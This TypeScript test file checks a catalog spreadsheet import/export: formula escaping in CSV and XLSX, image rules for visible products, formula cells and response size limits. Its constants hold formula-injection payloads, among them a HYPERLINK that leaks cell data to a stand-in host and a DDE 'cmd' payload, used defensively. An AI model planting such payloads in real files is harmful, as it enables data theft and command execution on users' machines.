import ExcelJS from 'exceljs';
import { HEADERS } from '../src/catalog-sheets/sheet-import-plan';
import { IMPORT_LIMITS, IMPORT_MESSAGES } from '../src/catalog-sheets/sheet-import.messages';
import { csvFile } from '../src/catalog-sheets/sheet-files';
import { StaffApp, type TestApp } from './helpers/test-app';
import { createCategory, createProduct, storeImage } from './catalog.fixtures';
import { column, headerRow, NS, xlsx } from './catalog-sheets.fixtures';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
const FORMULA_BRAND = '@SUM(1)';
const FORMULA_DESCRIPTION = "+SUM(1+1)*cmd|' /C calc'!A0";

/** The import's rules beyond the form's fields: formulas kept out of the CSV, images for visible products, formula cells, a bounded answer. */
describe('catalog spreadsheet import: formulas, images and bounded answers', () => {
  const staffApp = new StaffApp();
  const { api } = staffApp;
  let t: TestApp, owner: string;
  let caps: { id: string; name: string };
  let pictured: { id: string };

  beforeAll(async () => {
    ({ t, owner } = await staffApp.boot());
    caps = await createCategory(t, owner, { name: 'Caps' });
    await createProduct(t, owner, caps.id, { name: FORMULA_NAME, brand: FORMULA_BRAND, description: FORMULA_DESCRIPTION });
    pictured = await createProduct(t, owner, caps.id, { name: 'Pictured Cap' });
    const img = await storeImage(t, 'product', pictured.id, 0);
    await t.http
      .put(api(`/products/${pictured.id}`))
      .set(t.bearer(owner))
      .send({ images: [{ url: img.url, cloudinaryId: img.cloudinaryId, alt: 'front', order: 0 }] })
      .expect(200);
  });
  afterAll(() => t.close());

  const download = async (format: 'csv' | 'xlsx'): Promise<Buffer> => {
    const res = await t.http
      .get(api(`/catalog-sheets/export?format=${format}`))
      .set(t.bearer(owner))
      .buffer(true)
      .parse((r, cb) => {
        const c: Buffer[] = [];
        r.on('data', (b: Buffer) => c.push(b));
        r.on('end', () => cb(null, Buffer.concat(c)));
      });
    expect(res.status).toBe(200);
    return res.body as Buffer;
  };
  const send = (step: 'dry-run' | 'apply', file: Buffer, name: string) =>
    t.http
      .post(api(`/catalog-sheets/import/${step}`))
      .set(t.bearer(owner))
      .attach('file', file, name);
  /** A CSV in the export's layout: each row gives some columns by header, the rest blank. */
  const sheet = (rows: Record<string, string>[]) => csvFile([[...HEADERS], ...rows.map((r) => HEADERS.map((h) => r[h] ?? ''))]);
  const newCap = (over: Record<string, string> = {}) => ({
    name: 'Imported Cap',
    brand: 'New Era',
    category: caps.name,
    condition: 'NEW',
    sizes: 'One Size',
    colors: 'Red',
    cost_price: '50.00',
    selling_price: '99.00',
    featured: 'no',
    ...over,
  });

  it('writes cells a spreadsheet would run as formulas with a leading apostrophe, and reads them back unchanged', async () => {
    const csv = (await download('csv')).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"`);
    expect(csv).toContain(`,'${FORMULA_BRAND},`);
    expect(csv).toContain(`,'${FORMULA_DESCRIPTION},`);
    const back = await send('dry-run', Buffer.from(csv, 'utf8'), 'products.csv');
    expect(back.status).toBe(200);
    expect(back.body.data.totals).toMatchObject({ changed: 0, refused: 0, created: 0 });
  });

  it('writes the XLSX with text cells only (no formula), read back unchanged', async () => {
    const file = await download('xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as never);
    const kinds = new Set<number>();
    book.worksheets[0].eachRow((row) => row.eachCell((c) => void kinds.add(c.type)));
    expect([...kinds]).toEqual([ExcelJS.ValueType.String]);
    expect(file.toString('latin1')).not.toContain('<f>');
    expect((await send('dry-run', file, 'products.xlsx')).body.data.totals).toMatchObject({ changed: 0, created: 0, refused: 0 });
  });

  it('refuses to create a visible product without an image, as the product form does, and creates it hidden', async () => {
    const visible = await send('dry-run', sheet([newCap({ visible: 'yes' })]), 'new.csv');
    expect(visible.status).toBe(200);
    expect(visible.body.data.rows[0]).toMatchObject({ action: 'refuse', errors: { visible: IMPORT_MESSAGES.visibleWithoutImage } });
    const hidden = await send('apply', sheet([newCap({ visible: 'no' })]), 'new.csv');
    expect(hidden.status).toBe(200);
    expect(hidden.body.data.totals).toMatchObject({ created: 1 });
    const [p] = await t.ds.query(`SELECT "archived" FROM "products" WHERE "name" = 'Imported Cap'`);
    expect(p.archived).toBe(true);
  });

  it("refuses a row that takes a visible product's last image, or makes an imageless product visible", async () => {
    const csv = (await download('csv')).toString('utf8').replace(/^\ufeff/, '');
    const lines = csv.split('\r\n');
    const urls = HEADERS.indexOf('image_urls');
    const dropImages = lines
      .map((l) =>
        l.startsWith(pictured.id)
          ? l
              .split(',')
              .map((c, i) => (i === urls ? '' : c))
              .join(',')
          : l,
      )
      .join('\r\n');
    const dry = await send('dry-run', Buffer.from(dropImages, 'utf8'), 'drop.csv');
    const row = dry.body.data.rows.find((r: { id: string }) => r.id === pictured.id);
    expect(row).toMatchObject({ action: 'refuse', errors: { visible: IMPORT_MESSAGES.visibleWithoutImage } });

    const hidden = (await t.ds.query(`SELECT "id" FROM "products" WHERE "name" = 'Imported Cap'`))[0].id as string;
    const visibleCol = HEADERS.indexOf('visible');
    const show = lines
      .map((l) =>
        l.startsWith(hidden)
          ? l
              .split(',')
              .map((c, i) => (i === visibleCol ? 'yes' : c))
              .join(',')
          : l,
      )
      .join('\r\n');
    const shown = (await send('dry-run', Buffer.from(show, 'utf8'), 'show.csv')).body.data.rows.find((r: { id: string }) => r.id === hidden);
    expect(shown).toMatchObject({ action: 'refuse', errors: { visible: IMPORT_MESSAGES.visibleWithoutImage } });
  });

  /** An XLSX in the export's layout, its rows given as values per header (a formula cell as { formula, result? }). */
  async function workbook(rows: Record<string, ExcelJS.CellValue>[]): Promise<Buffer> {
    const book = new ExcelJS.Workbook();
    const ws = book.addWorksheet('Products');
    ws.addRow([...HEADERS]);
    for (const r of rows) ws.addRow(HEADERS.map((h) => r[h] ?? null));
    return Buffer.from(await book.xlsx.writeBuffer());
  }

  it('reads a formula cell by its saved value, and names the cell of a formula saved without one', async () => {
    const cached = await send(
      'dry-run',
      await workbook([newCap({ visible: 'no', name: 'Formula Cap', selling_price: { formula: '50*2', result: 100 } as never })]),
      'f.xlsx',
    );
    expect(cached.status).toBe(200);
    expect(cached.body.data.rows[0]).toMatchObject({ action: 'create', name: 'Formula Cap' });

    const col = String.fromCharCode(65 + HEADERS.indexOf('selling_price'));
    const bare = await send('dry-run', await workbook([newCap({ visible: 'no', selling_price: { formula: 'N2*2' } as never })]), 'f.xlsx');
    expect(bare.status).toBe(400);
    expect(bare.body.errors.file).toBe(IMPORT_MESSAGES.formulaWithoutValue(`${col}2 (selling_price)`));
  });

  it('reads cells as Excel and other writers save them: shared and rich text, numbers, prefixed elements, phonetic hints', async () => {
    const rich = await workbook([
      newCap({
        visible: 'no',
        name: { richText: [{ text: 'Rich ' }, { font: { bold: true }, text: 'Cap' }] } as never,
        cost_price: 50 as never,
        selling_price: 99.5 as never,
      }),
    ]);
    const read = await send('dry-run', rich, 'rich.xlsx');
    expect(read.status).toBe(200);
    expect(read.body.data.rows[0]).toMatchObject({ action: 'create', name: 'Rich Cap' });

    // an element prefix on every tag (some writers), and a phonetic hint inside an inline string, which is not its text
    const cap = newCap({ visible: 'no', name: 'Prefixed Cap' });
    const cell = (h: string, i: number) =>
      cap[h as keyof typeof cap] === undefined
        ? ''
        : `<x:c r="${column(i)}2" t="inlineStr"><x:is><x:t>${h === 'name' ? 'Prefixed' : cap[h as keyof typeof cap]}</x:t>${h === 'name' ? '<x:rPh sb="0" eb="1"><x:t>HINT</x:t></x:rPh><x:t> Cap</x:t>' : ''}</x:is></x:c>`;
    const prefixed = await xlsx(function* () {
      yield `<?xml version="1.0" encoding="UTF-8"?><x:worksheet xmlns:x="${NS}"><x:sheetData>`;
      yield headerRow().replace(/<(\/?)(row|c|is|t)\b/g, '<$1x:$2');
      yield `<x:row r="2">${HEADERS.map(cell).join('')}</x:row></x:sheetData></x:worksheet>`;
    });
    const back = await send('dry-run', prefixed, 'prefixed.xlsx');
    expect(back.status).toBe(200);
    expect(back.body.data.rows[0]).toMatchObject({ action: 'create', name: 'Prefixed Cap' });

    // what Excel never writes and the parser would hold whole, and XML it refuses: 400, never a 500
    for (const odd of ['<!-- a comment -->', '<![CDATA[x]]>', '&nbsp;']) {
      const file = await xlsx(function* () {
        yield `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${NS}"><sheetData>${headerRow()}`;
        yield `<row r="2"><c r="B2" t="inlineStr"><is><t>Cap ${odd}</t></is></c></row></sheetData></worksheet>`;
      });
      const res = await send('dry-run', file, 'odd.xlsx');
      expect(res.status).toBe(400);
      expect(res.body.errors.file).toBe(IMPORT_MESSAGES.notSpreadsheet);
    }
  });

  it("bounds the dry run's answer: long cells cut, refused rows past the first 100 counted, not listed", async () => {
    const long = `${'Ω'.repeat(IMPORT_LIMITS.maxCellChars - 100)}`;
    const rows = Array.from({ length: 3000 }, () => ({ name: long, description: long }));
    const file = await workbook(rows);
    expect(file.length).toBeLessThan(64 * 1024);
    const res = await send('dry-run', file, 'long.xlsx');
    expect(res.status).toBe(200);
    const size = Buffer.byteLength(res.text);
    console.log(`long.xlsx (${(file.length / 1024).toFixed(0)} KB): answer ${(size / 1024).toFixed(0)} KB`);
    expect(size).toBeLessThan(150 * 1024);
    expect(res.body.data.totals).toMatchObject({ rows: 3000, refused: 3000 });
    expect(res.body.data.rows).toHaveLength(IMPORT_LIMITS.listedRefusals);
    expect(res.body.data.notListed).toBe(3000 - IMPORT_LIMITS.listedRefusals);
    expect(res.body.data.rows[0].name).toBe(`${long.slice(0, IMPORT_LIMITS.echoChars)}…`);

    const applied = await send('apply', file, 'long.xlsx');
    expect(applied.status).toBe(400);
    expect(applied.body.message).toBe(IMPORT_MESSAGES.refused(3000));
    expect(Buffer.byteLength(applied.text)).toBeLessThan(150 * 1024);
  });
});
